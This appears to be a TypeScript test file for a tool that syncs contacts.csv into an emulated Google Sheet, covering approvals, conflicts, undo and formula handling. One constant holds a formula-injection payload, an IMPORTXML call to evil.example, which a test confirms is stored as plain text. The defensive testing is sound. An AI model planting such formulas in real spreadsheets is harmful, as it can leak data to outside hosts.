import { readFileSync, writeFileSync } from "node:fs";
import { join } from "node:path";
import { afterAll, afterEach, beforeAll, describe, expect, it } from "vitest";
import { share } from "../../../../src/emulators/google/drive/drive-state.ts";
import type { FileDoor, FileLife } from "../../drive/door/file-door.ts";
import { anna, beginSheetLife, ben, changeByHand, openSheet, rowsOf, zoe } from "./sheet-life.ts";

const action = "contacts-sheet.write_rows";
const formula = '=IMPORTXML("http://evil.example","//a")';
const annaAfter = [...anna.slice(0, 4), formula];
const benAfter = ["k2", "Ben Cole", "ben@new.example; ben@cole.example", 491731111111, "friend"];
const dora = ["k4", "Dora Eck", "dora@eck.example", "+49 30 123456"];

let life: FileLife;
const open: FileDoor[] = [];
beforeAll(async () => {
  life = await beginSheetLife();
});
afterEach(async () => {
  for (const door of open.splice(0)) await door.close();
});
afterAll(() => life.end());

async function opened(): Promise<FileDoor> {
  const door = await openSheet(life);
  open.push(door);
  return door;
}

/** Somebody does something just before the write leaves, when all was looked at. */
function beforeTheWrite(door: FileDoor, change: () => void): void {
  const inner = door.network;
  let isDone = false;
  door.network = async (input, init) => {
    if (!isDone && String(input).includes("values:batchUpdate")) {
      isDone = true;
      change();
    }
    return await inner(input, init);
  };
}

const sorted = (rows: ReturnType<typeof rowsOf>): void => {
  rows.push(...rows.splice(1).reverse());
};

describe("writing rows of contacts.csv into the Sheet", () => {
  it("writes what only contacts.csv changed, cell by cell, and a new row at a place of its own", async () => {
    const door = await opened();
    const { state, view } = await door.run(action, {});
    expect(state).toBe("done");
    expect(rowsOf(door).slice(1)).toEqual([annaAfter, benAfter, zoe, dora]);
    expect(view.content.tier).toBe("change");
    expect(view.preview.diffs.map(({ name }) => name)).toEqual([
      "Anna Berg, row 2",
      "Ben Cole, row 3",
      "Dora Eck, new row 5",
    ]);
    expect(view.preview.diffs[0]).toMatchObject({ before: "notes: \n", after: `notes: ${formula}\n` });
    expect(door.requests.filter((one) => /append|USER_ENTERED/.test(one))).toEqual([]);
    await expect(door.propose(action, {})).rejects.toThrow("has all of that already");
  });

  it("D10: text that looks like a formula stays text", async () => {
    const door = await opened();
    await door.run(action, { rows: ["Anna Berg"] });
    expect(rowsOf(door)[1]).toEqual(annaAfter);
    expect(rowsOf(door)[2]).toEqual(ben);
    expect(rowsOf(door)).toHaveLength(4);
  });

  it("D9: rows that were sorted after they were seen are not written over", async () => {
    const door = await opened();
    const { seen } = await door.propose(action, {});
    await door.approve(seen);
    changeByHand(door, sorted);
    expect(await door.live(seen.cardId)).toMatchObject({ state: "superseded" });
    expect(rowsOf(door).slice(1)).toEqual([zoe, ben, anna]);
  });

  it("D9: an inserted column voids the card, one without a name too", async () => {
    for (const name of ["born", ""]) {
      const door = await opened();
      const { seen } = await door.propose(action, {});
      await door.approve(seen);
      changeByHand(door, (rows) => {
        for (const [at, row] of rows.entries()) row.splice(1, 0, at === 0 ? name : "");
      });
      expect(await door.live(seen.cardId)).toMatchObject({ state: "superseded" });
      expect(door.happened("sheet.written")).toBe(0);
    }
  });

  it("D9: a change between the last check and the preparing of the write is found by the write itself", async () => {
    const door = await opened();
    const { seen } = await door.propose(action, { rows: ["Anna Berg"] });
    await door.approve(seen);
    const inner = door.network;
    let reads = 0;
    door.network = async (input, init) => {
      // The first reading is the check of what was approved, the second the write's own.
      if (/\/values\/.*UNFORMATTED/.test(String(input))) reads += 1;
      if (reads === 2) changeByHand(door, sorted);
      if (reads === 2) reads += 1;
      return await inner(input, init);
    };
    expect(await door.live(seen.cardId)).toMatchObject({ state: "superseded" });
    expect(door.happened("sheet.written")).toBe(0);
  });

  it("D9: one who sorts in the very moment is told of it, and undoing puts back what lay there", async () => {
    const door = await opened();
    const { seen } = await door.propose(action, { rows: ["Anna Berg", "Ben Cole"] });
    await door.approve(seen);
    beforeTheWrite(door, () => changeByHand(door, sorted));
    expect(await door.live(seen.cardId)).toMatchObject({ state: "done" });
    expect((await door.door.card(seen.cardId))?.receipt).toContain("look at rows 2");
    expect(await door.undo(seen.cardId)).toMatchObject({ kind: "ok" });
    const shown = rowsOf(door).slice(1);
    expect(shown[1]).toEqual(ben);
    // A formula that was written over in that moment comes back as what it showed.
    expect(shown[0]?.slice(0, 4)).toEqual(zoe.slice(0, 4));
    expect(shown[2]).toEqual(anna);
  });

  it("is undone wherever the rows lie by then, numbers as numbers, twice the same", async () => {
    const door = await opened();
    const { cardId } = await door.run(action, {});
    changeByHand(door, sorted);
    life.world.faults.add({ match: /values:batchUpdate/, nth: 1, when: "after", do: "drop" });
    await expect(door.undo(cardId)).rejects.toMatchObject({ code: "unavailable" });
    expect(await door.undo(cardId)).toMatchObject({ kind: "ok" });
    expect(rowsOf(door).slice(1)).toEqual([["", "", "", ""], zoe, ben, anna]);
  });

  it("is not undone over what somebody wrote since", async () => {
    const door = await opened();
    const { cardId } = await door.run(action, {});
    changeByHand(door, (rows) => rows[1]?.splice(3, 1, "+49 30 1"));
    const before = structuredClone(rowsOf(door));
    await expect(door.undo(cardId)).rejects.toMatchObject({ code: "moved" });
    expect(rowsOf(door)).toEqual(before);
  });

  it("leaves what both sides changed, and what a formula fills, and says so", async () => {
    const door = await opened();
    changeByHand(door, (rows) => rows[2]?.splice(2, 1, "ben@other.example"));
    const { view } = await door.propose(action, {});
    expect(view.preview.diffs.map(({ name }) => name)).toEqual(["Anna Berg, row 2", "Dora Eck, new row 5"]);
    expect(view.preview.consequences).toContain("Not written: Ben Cole, emails: both sides changed it.");
    await expect(door.propose(action, { rows: ["Ben Cole"] })).rejects.toThrow("both sides changed it");
  });

  it("never writes over a formula", async () => {
    const door = await opened();
    const path = join(door.home, "contacts.csv");
    writeFileSync(path, readFileSync(path, "utf8").replace("zoe@day.example,,7,", "zoe@day.example,,8,"));
    const { view } = await door.propose(action, {});
    expect(view.preview.diffs.map(({ name }) => name)).not.toContain("Zoe Day, row 4");
    expect(view.preview.consequences.join(" ")).toContain("Zoe Day, notes: a formula or a date stands in the Sheet");
  });

  it("takes names that contacts.csv has once", async () => {
    const door = await opened();
    await expect(door.propose(action, { rows: ["Nobody"] })).rejects.toThrow("Nobody in contacts.csv");
    const { view } = await door.propose(action, { rows: ["dora@eck.example"] });
    expect(view.preview.title).toContain("Dora Eck");
  });

  it("reaches others when the Sheet is shared, or when it may not be asked who sees it", async () => {
    const door = await opened();
    share(life.state, life.ids.sheet, [{ type: "user", role: "writer", emailAddress: "ana@weiss.example" }], 0);
    expect((await door.propose(action, {})).view.content.tier).toBe("send");
    const blind = await opened();
    life.world.faults.add({ match: /GET \/drive\/v3/, nth: "every", when: "before", do: "status", status: 403 });
    expect((await blind.propose(action, {})).view.content.tier).toBe("send");
  });
});

describe("a sheet without room, or of another form", () => {
  it("gets no row beyond its end, and cells of missing columns are said", async () => {
    const small = await beginSheetLife({
      tab: { rowCount: 3, rows: [["steward_id", "name", "emails"], anna.slice(0, 3), ben.slice(0, 3)] },
    });
    const door = await openSheet(small);
    const { view } = await door.propose(action, {});
    expect(view.preview.diffs.map(({ name }) => name)).toEqual(["Ben Cole, row 3"]);
    expect(view.preview.consequences.join(" ")).toContain("Dora Eck: the Sheet has no empty row left");
    await door.close();
    small.end();
  });

  it("that is no table of contacts is left alone", async () => {
    const other = await beginSheetLife({ tab: { rows: [["Total"], [12]] } });
    const door = await openSheet(other);
    await expect(door.propose(action, {})).rejects.toThrow("names no column");
    await door.close();
    other.end();
  });
});
